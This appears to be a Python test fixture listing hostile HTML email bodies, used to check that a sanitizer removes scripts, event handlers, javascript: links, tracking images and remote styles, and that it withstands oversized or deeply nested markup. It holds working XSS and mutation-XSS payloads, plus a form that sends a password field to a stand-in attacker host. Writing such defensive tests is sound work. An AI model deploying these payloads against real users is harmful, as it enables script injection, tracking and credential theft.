"""HTML that would run, fetch, hide or hold up: what is left of it is shown to people."""

from tests.support.hostile.kind import Kind, multipart, part, text, typed


def _page(name: str, written: str | bytes, *, alone: bool = False, **reads: object) -> Kind:
    raw = written if isinstance(written, bytes) else written.encode()
    return Kind(f"HTML {name}", typed("text/html; charset=utf-8", raw), reads, alone=alone)


def _table(rows: int) -> str:
    cells = '<td width="10"><font color="red">cell &amp; cell</font></td><td>12&nbsp;€</td>'
    return "<table>" + f'<tr style="border:1px">{cells}</tr>\n' * rows + "</table>"


PAGES = (
    _page(
        "with a script",
        "<p>Hi</p><script>alert(1)</script><SCRIPT SRC=//evil.example></SCRIPT>",
        html="<p>Hi</p>\n",
    ),
    _page("with handlers", "<p onclick=x() ONMOUSEOVER='y()' on\x0bfocus=z()>Hi</p><body onload=w()>"),
    _page(
        "with links that run",
        "".join(
            f"<a href='{url}'>x</a>"
            for url in (
                "javascript:x()",
                "JaVaScRiPt:x()",
                " java\tscript:x()",
                "&#106;avascript:x()",
                "vbscript:x",
                "data:text/html,<script>x</script>",
                "java\0script:x()",
                "feed:javascript:x",
            )
        ),
    ),
    _page(
        "with remote pictures",
        "".join(
            f"<{tag} {attribute}='http://track.example/x.png'>"
            for tag, attribute in (
                ("img", "src"),
                ("img", "srcset"),
                ("img", "lowsrc"),
                ("image", "href"),
                ("table", "background"),
                ("video", "poster"),
                ("input type=image", "src"),
                ("picture><source", "srcset"),
                ("bgsound", "src"),
                ("link rel=stylesheet", "href"),
                ("embed", "src"),
                ("object", "data"),
                ("svg><image", "xlink:href"),
            )
        ),
    ),
    _page(
        "with remote styles",
        "<style>@import url(http://track.example)</style>"
        "<p style=\"background:url('http://track.example')\">a</p>"
        "<p style='background:u\\72l(//track.example)'>b</p>"
        '<div style="behavior:url(x);-moz-binding:url(y)">c</div>'
        "<p style='color:expression(alert(1))'>d</p>"
        "<p style='list-style:image-set(\"//track.example\" 1x)'>e</p>",
    ),
    _page(
        "with a form",
        "<form action=//evil.example><input name=password><button formaction=javascript:x()>Go</button>",
    ),
    _page(
        "with frames",
        "<iframe srcdoc='<script>x</script>'></iframe><frameset><frame src=//evil.example></frameset>"
        "<object data=x></object>",
    ),
    _page(
        "that sends elsewhere",
        "<meta http-equiv=refresh content='0;url=//evil.example'><base href=//evil.example/>",
    ),
    _page(
        "that changes when it is cleaned",
        "<math><mtext><table><mglyph><style><!--</style>"
        "<img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    ),
    _page(
        "that changes when it is cleaned again",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    ),
    _page(
        "with foreign elements",
        "<svg><style><img src=x onerror=y()></style></svg><svg/onload=x()><svg>"
        "<a xlink:href='javascript:x()'><text>a</text></a></svg>",
    ),
    _page(
        "with a comment that ends early", "<!--><img src=x onerror=alert(1)>--><!-- --!><script>x</script>"
    ),
    _page(
        "with conditional comments",
        "<!--[if gte mso 9]><xml><script>x</script></xml><![endif]-->Hi",
        text="Hi",
    ),
    _page(
        "with broken tags",
        '<img """><script>x</script>"><<script>y//<</script><a href=\'x\' <b>c</b',
    ),
    _page("with NUL in its tags", b"<scr\0ipt>x</scr\0ipt><im\0g src=//track.example>"),
    _page("with a template", "<template><script>x</script></template><slot onslotchange=x()>"),
    _page(
        "that is fixed over the page",
        "<div style='position:fixed;top:0;left:0;width:100%;height:100%;z-index:9'>Log in again</div>",
    ),
    _page("of a table of 290 kB", _table(2500)),
    _page("of a table with a hundred thousand cells", "<table><tr>" + "<td>x" * 100_000, alone=True),
    _page("of tables in tables", "<table><tr><td>" * 3000 + "deep"),
    _page("of open tags", "<b>" * 30_000 + "x"),
    _page("of formatting that doubles", "<b><i><u><s>" * 1000 + "<p>" * 1000),
    _page("of angle brackets", "<" * 500_000, alone=True),
    _page("of entities", "&amp;lt;" * 100_000 + "&#x110000;&#xD800;&#0;&unknown;", alone=True),
    _page("of blanks that do not break", "<p>" + "&nbsp;" * 60_000 + "x", text="x", html=""),
    _page("of blanks that nearly break", "<p>" + "\xa0" * 40_000 + "x", text="x"),
    _page("of attributes", "<p " + " ".join(f"a{n}=b" for n in range(10_000)) + ">x</p>"),
    _page("of one attribute", f'<p style="{"color:red;" * 50_000}">x</p>'),
    _page("of three megabytes", "<p>word</p>" * 300_000, alone=True),
    _page("of styles", "<style>" + "a{b:c}" * 100_000 + "</style>Hi", text="Hi", alone=True),
    _page("of spaces", "<p>" + " " * 1_000_000 + "x</p>", text="x", alone=True),
    _page("that is empty", "<html><body></body></html>", text=""),
    _page("that is a picture only", "<img src='cid:nowhere@x'>"),
    _page("in a broken charset", "<p>Grüße".encode("utf-16")),
    Kind(
        "HTML that says it is text",
        text("utf-8", b"<script>alert(1)</script>"),
        {"text": "<script>alert(1)</script>", "html": ""},
    ),
    Kind(
        "text and HTML that differ",
        multipart(
            text("utf-8", b"Pay nothing."), part("text/html", b"<p>Pay now.</p>"), subtype="alternative"
        ),
        {"text": "Pay nothing.", "html": "<p>Pay now.</p>"},
    ),
    Kind(
        "HTML as a file",
        multipart(
            text("utf-8", b"See."),
            part("text/html; name=a.html", b"<script>x</script>", more="Content-Disposition: attachment\n"),
        ),
        {"html": ""},
    ),
    Kind(
        "text in 500 pieces",
        multipart(*[part("text/html", b"<p>a"), text("utf-8", b"<b>b")] * 250),
        alone=True,
    ),
)
